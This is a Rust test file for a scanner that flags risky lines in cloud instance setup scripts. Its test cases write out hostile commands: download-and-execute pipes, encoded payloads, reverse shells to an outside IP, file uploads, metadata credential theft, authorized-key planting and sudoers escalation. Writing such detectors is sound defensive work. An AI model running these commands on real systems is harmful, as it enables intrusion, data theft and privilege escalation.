//! What a setup script does that a setup has no need of.

use aisec_tui::inventory::scripts::{RiskKind, risks};

fn kinds(script: &str) -> Vec<RiskKind> {
    risks("OnStart", script).into_iter().map(|r| r.kind).collect()
}

#[test]
fn what_attackers_leave_in_scripts_is_recognised() {
    let cases = [
        (
            "curl -fsSL https://get.example.com/setup.sh | sudo bash",
            RiskKind::RunsDownload,
        ),
        ("wget -qO- $URL | sh", RiskKind::RunsDownload),
        (
            "bash <(curl -s https://get.example.com/x)",
            RiskKind::RunsDownload,
        ),
        (
            "eval \"$(curl -s https://get.example.com/x)\"",
            RiskKind::RunsDownload,
        ),
        ("echo aWQ= | base64 -d | bash", RiskKind::RunsEncoded),
        (
            "python3 -c \"import base64; exec(base64.b64decode('aWQ='))\"",
            RiskKind::RunsEncoded,
        ),
        ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", RiskKind::Shell),
        ("nc -e /bin/sh 203.0.113.7 4444", RiskKind::Shell),
        (
            "ssh -fN -R 8888:localhost:8888 relay.example.com",
            RiskKind::Shell,
        ),
        ("ngrok http 8888 &", RiskKind::Shell),
        (
            "curl -T /home/ec2-user/data.csv https://files.example.com/",
            RiskKind::Upload,
        ),
        ("curl -d @/tmp/x https://files.example.com/", RiskKind::Upload),
        (
            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
            RiskKind::Credentials,
        ),
        ("aws iam create-access-key --user-name ops", RiskKind::Iam),
        (
            "aws sts assume-role --role-arn $ROLE --role-session-name x",
            RiskKind::Iam,
        ),
        (
            "echo \"$KEY\" >> /home/ec2-user/.ssh/authorized_keys",
            RiskKind::AuthorizedKey,
        ),
        (
            "echo 'ec2-user ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/ec2-user",
            RiskKind::GivesRoot,
        ),
        ("usermod -aG docker ec2-user", RiskKind::GivesRoot),
        ("chmod u+s /bin/bash", RiskKind::GivesRoot),
    ];
    for (script, kind) in cases {
        assert_eq!(kinds(script), [kind], "{script}");
    }
}

#[test]
fn an_ordinary_setup_is_left_alone() {
    let script = "#!/bin/bash\n\
        set -euo pipefail\n\
        # never do this: curl https://example.com/x | bash\n\
        REGION=$(curl -s http://169.254.169.254/latest/dynamic/instance-identity/document | jq -r .region)\n\
        aws s3 cp s3://team-setup/autostop.py /usr/local/bin/autostop.py\n\
        sudo -u ec2-user -i <<'EOF'\n\
        pip install --index-url https://pypi.example.com/simple risk==1.4\n\
        curl -sSO https://files.example.com/data-dictionary.csv && echo done\n\
        EOF\n\
        (crontab -l 2>/dev/null; echo '*/5 * * * * python /usr/local/bin/autostop.py --time 3600') | crontab -\n\
        chmod 755 /usr/local/bin/autostop.py\n\
        aws sts get-caller-identity\n\
        aws iam get-role --role-name team\n\
        nvidia-smi | tee /var/log/gpu.log\n\
        systemctl restart jupyter-server --no-wait &\n";
    assert_eq!(kinds(script), []);
}

#[test]
fn a_continued_line_is_one_and_is_named_by_its_first() {
    let found = risks("OnCreate", "set -e\ncurl -s https://example.com/x \\\n  | bash\n");
    let words: Vec<String> = found.iter().map(ToString::to_string).collect();
    assert_eq!(words, ["runs what it downloads (OnCreate line 2)"]);
    assert_eq!(risks("OnStart", &"usermod -aG wheel a\n".repeat(50)).len(), 20);
}
